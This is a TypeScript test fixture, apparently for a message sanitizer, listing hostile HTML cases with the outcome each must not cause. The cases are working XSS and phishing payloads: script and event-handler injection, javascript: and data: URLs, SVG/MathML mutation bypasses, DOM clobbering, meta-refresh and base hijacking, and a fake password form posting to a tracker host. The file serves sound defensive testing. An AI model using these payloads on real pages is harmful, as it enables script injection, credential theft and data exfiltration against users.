/** HTML that wants to run, to navigate, or to look like the page around it. */
import { htmlMessage, TRACKER, type HostileMessage } from './message.ts';

/** Sets `document.title` and asks the tracker: a reader's page can look for either. */
const RUN = `document.title='ran';fetch('${TRACKER}/ran')`;
const NOTHING_RUNS = 'no script runs: the title of the document stays, and the tracker is not asked';
const STAYS = 'the page is not navigated away, and no window opens';

/** Name, HTML, what must not happen. */
const rows: readonly (readonly [name: string, html: string, mustNot: string])[] = [
  ['script element', `<p>Hi</p><script>${RUN}</script>`, NOTHING_RUNS],
  [
    'script from elsewhere',
    `<script src="${TRACKER}/x.js"></script><script type=module src="${TRACKER}/m.js"></script>`,
    NOTHING_RUNS,
  ],
  ['script in odd spelling', `<ScRiPt\n>${RUN}</sCrIpT ><script/x>${RUN}</script\t\n bar>`, NOTHING_RUNS],
  [
    'event handlers',
    `<img src=x onerror="${RUN}"><body onload="${RUN}"><details open ontoggle="${RUN}">x</details><input autofocus onfocus="${RUN}"><marquee onstart="${RUN}">x</marquee>`,
    NOTHING_RUNS,
  ],
  [
    'event handlers of animations',
    `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${RUN}">x</b><p style="transition:all 1s" ontransitionend="${RUN}">y</p>`,
    NOTHING_RUNS,
  ],
  [
    'event handlers in odd spelling',
    `<img/src=x/onerror=${RUN}><svg/onload=${RUN}><img src=x oNeRrOr\n=\n"${RUN}"><img src=x onerror\u000c=${RUN}>`,
    NOTHING_RUNS,
  ],
  [
    'javascript: addresses',
    `<a href="javascript:${RUN}">a</a><a href="&#106;avascript&colon;${RUN}">b</a><a href="java\tscript:${RUN}">c</a><a href="\u0001javascript:${RUN}">d</a><form action="javascript:${RUN}"><button>e</button></form>`,
    `${NOTHING_RUNS}, whatever is clicked`,
  ],
  [
    'vbscript: and data: addresses',
    `<a href="vbscript:msgbox(1)">a</a><a href="data:text/html,<script>${RUN}</script>">b</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">c</a>`,
    `${NOTHING_RUNS}, whatever is clicked`,
  ],
  [
    'SVG with script',
    `<svg><script>${RUN}</script></svg><svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg><svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg><svg><set attributeName="href" to="javascript:${RUN}"/></svg>`,
    NOTHING_RUNS,
  ],
  [
    'SVG use and foreignObject',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
    NOTHING_RUNS,
  ],
  [
    'mutation: MathML and style',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    NOTHING_RUNS,
  ],
  [
    'mutation: SVG and title',
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></svg><svg><title><style><img src=x onerror="${RUN}"></style></title></svg>`,
    NOTHING_RUNS,
  ],
  [
    'mutation: noscript',
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
    NOTHING_RUNS,
  ],
  [
    'mutation: template, select and textarea',
    `<template><script>${RUN}</script></template><select><template><img src=x onerror=${RUN}></template></select><textarea></textarea><img src=x onerror=${RUN}></textarea>`,
    NOTHING_RUNS,
  ],
  [
    'mutation: nested forms',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    NOTHING_RUNS,
  ],
  [
    'namespace confusion',
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math><svg><desc><math><mi><mglyph><svg><style><!--</style><b title="--><img src=x onerror=${RUN}>">`,
    NOTHING_RUNS,
  ],
  [
    'comments and CDATA',
    `<!--><img src=x onerror=${RUN}>--><![CDATA[><img src=x onerror=${RUN}>]]><?x ><img src=x onerror=${RUN}>?>`,
    NOTHING_RUNS,
  ],
  [
    'DOM clobbering',
    `<form id=document><input name=cookie><img name=body><input name=attributes></form><a id=DOMPurify></a><a id=window name=location href="${TRACKER}/clobbered"></a><img name=getElementById><form id=childNodes>`,
    'the page around the message goes on working, and nothing of it is replaced',
  ],
  [
    'meta refresh',
    `<meta http-equiv="refresh" content="0;url=${TRACKER}/refreshed"><meta http-equiv=Set-Cookie content="a=b"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
    STAYS,
  ],
  [
    'base address',
    `<base href="${TRACKER}/" target="_top"><a href="login">Sign in</a><img src="pixel.gif">`,
    'no address is read against the base of the message, and nothing is loaded',
  ],
  [
    'form that asks for a password',
    `<form action="${TRACKER}/login" method=post target=_top><label>Your session has ended. Password: <input type=password name=p autofocus></label><button formaction="${TRACKER}/b">Sign in</button></form>`,
    'nothing is sent to the tracker by submitting, and no field is focused',
  ],
  [
    'form control outside of its form',
    `<button form="compose" formaction="${TRACKER}/x">x</button><input form=search name=q>`,
    'no form of the page is submitted or gets a field',
  ],
  [
    'frames',
    `<iframe src="${TRACKER}/frame"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe><frameset><frame src="javascript:${RUN}"></frameset><iframe src="javascript:parent.${RUN}"></iframe>`,
    NOTHING_RUNS,
  ],
  [
    'object, embed, applet, portal',
    `<object data="${TRACKER}/x.swf"><param name=movie value="${TRACKER}/y"></object><embed src="${TRACKER}/x.pdf"><applet code=X archive="${TRACKER}/x.jar"></applet><portal src="${TRACKER}/p"></portal><object data="data:text/html,<script>${RUN}</script>"></object>`,
    NOTHING_RUNS,
  ],
  [
    'links that take the page along',
    `<a href="https://bank.example.evil.example/" target="_top">https://bank.example/</a><a href="${TRACKER}" target=_blank rel=opener ping="${TRACKER}/ping">x</a><a href="//evil.example" download="x.html">y</a>`,
    'a clicked link gets no opener and no referrer, sends no ping, and does not replace the page',
  ],
  [
    'links to the page itself',
    '<a href="/v1/messages">a</a><a href="#/settings?enabled=false">b</a><a href="https://localhost:8443/oidc/session/end">c</a>',
    'no click acts on the settings or the session of the reader',
  ],
  [
    'web components and dialogs',
    `<x-y is="x-y"></x-y><dialog open>Your account is locked</dialog><div popover id=p>x</div><button popovertarget=p popovertargetaction=show>x</button><slot name=x></slot>`,
    'nothing of the message stands over the page',
  ],
];

export const activeContent: readonly HostileMessage[] = rows.map(([name, html, mustNot]) => ({
  name: `active: ${name}`,
  raw: htmlMessage(html),
  mustNot,
}));
